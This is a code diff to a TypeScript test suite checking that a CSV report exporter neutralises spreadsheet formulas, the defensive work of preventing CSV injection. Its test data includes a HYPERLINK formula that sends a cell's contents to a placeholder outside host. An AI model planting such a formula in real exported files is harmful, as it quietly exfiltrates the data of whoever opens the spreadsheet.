@@ -21,6 +21,8 @@ const FORMULAS = [
   '=HYPERLINK("http://x.test?"&A1,"a")',
 ];
 
+const linesOf = (csv: string) => parse<Record<string, string>>(csv, { bom: true, columns: true });
+
 describe('CSV', () => {
   it.each(FORMULAS)('makes %j inert, wherever a program would see it begin', (formula) => {
     expect(inert(formula)).toMatch(/^'/);
@@ -37,10 +39,10 @@ describe('CSV', () => {
     const report: Report = structuredClone(FORM_REPORT);
     const [stalled] = report.stalled ?? [];
     if (stalled) stalled.title = '=1+1';
-    const lines = parse(renderCsv(report, 'en'), { bom: true, columns: true });
-    expect(lines.find((line) => line.Section === 'stalled')?.Title).toBe("'=1+1");
+    const lines = linesOf(renderCsv(report, 'en'));
+    expect(lines.find((line) => line['Section'] === 'stalled')?.['Title']).toBe("'=1+1");
     const down = lines.find(
-      (line) => line.Section === 'bridge' && line.Strand === 'Total' && line.Term === 'Value down',
+      (line) => line['Section'] === 'bridge' && line['Strand'] === 'Total' && line['Term'] === 'Value down',
     );
     expect(down?.['Open value (GBP)']).toBe('-32000.50');
   });
@@ -61,8 +63,8 @@ describe('CSV', () => {
       bridge: null,
       unavailable: [{ section: 'bridge', reason: 'first-report' as const }],
     };
-    const lines = parse(renderCsv(report, 'en'), { bom: true, columns: true });
-    expect(lines.filter((line) => line.Section === 'bridge').map((line) => line.Detail)).toEqual([
+    const lines = linesOf(renderCsv(report, 'en'));
+    expect(lines.filter((line) => line['Section'] === 'bridge').map((line) => line['Detail'])).toEqual([
       'Cannot be given. There is no earlier report to compare with.',
     ]);
   });
